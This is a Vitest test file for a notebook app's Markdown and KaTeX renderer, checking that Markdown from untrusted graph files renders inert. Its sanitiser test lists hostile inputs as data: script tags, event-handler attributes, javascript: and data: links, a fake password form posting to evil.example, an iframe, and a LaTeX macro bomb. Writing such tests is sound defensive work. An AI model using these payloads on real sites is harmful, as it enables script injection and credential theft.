// @vitest-environment jsdom
/**
 * Cell Markdown from untrusted graph files renders inert: what the sanitiser must remove is written
 * out as the attacks people use (script tags, event attributes, javascript: links, styles that
 * overlay the page, remote images, forms), and huge formulas stay bounded.
 */
import { describe, expect, it } from 'vitest';
import { createMarkdownRenderer, MAX_FORMULA } from '../../src/ui/notebook/markdown.ts';

const md = createMarkdownRenderer(window as never);
const dom = (html: string) => {
  const d = document.createElement('div');
  d.innerHTML = html;
  return d;
};

describe('cell Markdown', () => {
  it('renders Markdown, formulas and node links', () => {
    const d = dom(md.render('# Anchors\n\nThe **posed** anchors $x + \\Delta(x) = a_c$ and\n\n$$\nz = \\mu + \\sigma \\odot u\n$$\n\nSee [the SDF](#node:sdf1) and [the paper](https://arxiv.org/abs/2312.06740).'));
    expect(d.querySelector('h1')?.textContent).toBe('Anchors');
    expect(d.querySelector('strong')?.textContent).toBe('posed');
    expect(d.querySelectorAll('.katex').length).toBe(2);
    expect(d.querySelector('.katex-display')).not.toBeNull();
    // KaTeX's MathML carries the formula's source for screen readers.
    expect(d.querySelector('annotation')?.textContent).toContain('\\Delta(x)');
    const node = d.querySelector('a[data-node]')!;
    expect(node.getAttribute('data-node')).toBe('sdf1');
    const ext = d.querySelector('a[href^="https:"]')!;
    expect(ext.getAttribute('target')).toBe('_blank');
    expect(ext.getAttribute('rel')).toBe('noopener noreferrer');
  });

  it('removes scripts, event attributes, javascript: links, styles, forms and remote images', () => {
    const hostile = [
      '<script>window.__pwned = 1</script>',
      '<img src="x" onerror="window.__pwned = 2">',
      '<img src="https://tracker.example/pixel.gif">',
      '[click](javascript:window.__pwned=3)',
      '<a href="JaVaScRiPt:alert(1)">x</a>',
      '<a href="data:text/html,<script>alert(1)</script>">d</a>',
      '<div style="position:fixed;inset:0;z-index:99">fake dialog</div>',
      '<style>body{display:none}</style>',
      '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
      '<iframe src="https://evil.example"></iframe>',
      '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">s</a></svg>',
      '<p onclick="alert(1)" onmouseover="alert(1)">hover</p>',
      '<span data-formula="0"></span>',
      '$\\href{javascript:alert(1)}{x}$',
    ].join('\n\n');
    const d = dom(md.render(hostile));
    expect(d.querySelector('script, style, form, input, button, iframe, svg')).toBeNull();
    for (const el of d.querySelectorAll('*')) {
      for (const a of el.attributes) expect(a.name.startsWith('on'), `${el.tagName} ${a.name}`).toBe(false);
      expect(el.closest('.katex') || !el.hasAttribute('style'), `${el.tagName} keeps style`).toBeTruthy();
    }
    for (const a of d.querySelectorAll('a[href]')) expect(a.getAttribute('href')).toMatch(/^(https?:|#)/);
    expect(d.querySelectorAll('img').length).toBe(0);
    for (const el of d.querySelectorAll('*')) for (const a of el.attributes) expect(a.value).not.toMatch(/javascript:/i);
    // The text of removed markup may stay; what it would have done does not.
    expect(d.textContent).toContain('fake dialog');
    expect((window as unknown as { __pwned?: number }).__pwned).toBeUndefined();
  });

  it('keeps inline data-URI images (a notebook can carry its own figure)', () => {
    const png = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=';
    const d = dom(md.render(`![one pixel](${png})`));
    expect(d.querySelector('img')?.getAttribute('src')).toBe(png);
  });

  it('bounds huge and broken formulas', () => {
    const huge = `$${'\\frac{1}{'.repeat(MAX_FORMULA)}x${'}'.repeat(MAX_FORMULA)}$`;
    const t0 = performance.now();
    const d = dom(md.render(`before ${huge} after`));
    expect(performance.now() - t0).toBeLessThan(5000);
    expect(d.querySelector('.formula-too-long')?.textContent).toMatch(/at most 2000/);
    expect(d.textContent).toContain('after');
    // Macro bombs stop at KaTeX's expansion limit and show as an error, not a hang.
    const bomb = dom(md.render('$\\def\\a{\\b\\b}\\def\\b{\\c\\c}\\def\\c{\\d\\d}\\def\\d{xxxxxxxx}\\a\\a\\a\\a\\a\\a\\a\\a\\a\\a$'));
    expect(bomb.textContent!.length).toBeLessThan(20_000);
    const broken = dom(md.render('$\\frac{1$'));
    expect(broken.textContent).toContain('frac');
  });
});

describe('the shipped notebooks', () => {
  it('typeset every formula (no stray $, no KaTeX error) and link only nodes of their graph', async () => {
    const { readFileSync, readdirSync } = await import('node:fs');
    const { join, resolve } = await import('node:path');
    // jsdom's URL is not Node's: read by path.
    const dir = resolve(import.meta.dirname, '../../graphs');
    const files = readdirSync(dir).filter((f) => f.endsWith('.graph.json'));
    let checked = 0;
    for (const f of files) {
      const g = JSON.parse(readFileSync(join(dir, f), 'utf8')) as { nodes: { id: string }[]; ui: { cells?: { id: string; text: string }[] } };
      const ids = new Set(g.nodes.map((n) => n.id));
      for (const c of g.ui.cells ?? []) {
        const d = dom(md.render(c.text));
        d.querySelectorAll('.katex-mathml').forEach((m) => m.remove());
        expect(d.textContent, `${f} cell ${c.id}`).not.toContain('$');
        expect(d.querySelectorAll('.katex-error').length, `${f} cell ${c.id}`).toBe(0);
        for (const a of d.querySelectorAll('a[data-node]')) expect(ids.has(a.getAttribute('data-node')!), `${f} cell ${c.id} links ${a.getAttribute('data-node')}`).toBe(true);
        checked++;
      }
    }
    expect(checked).toBeGreaterThanOrEqual(12 + 3 + 2 + 2);
  });
});
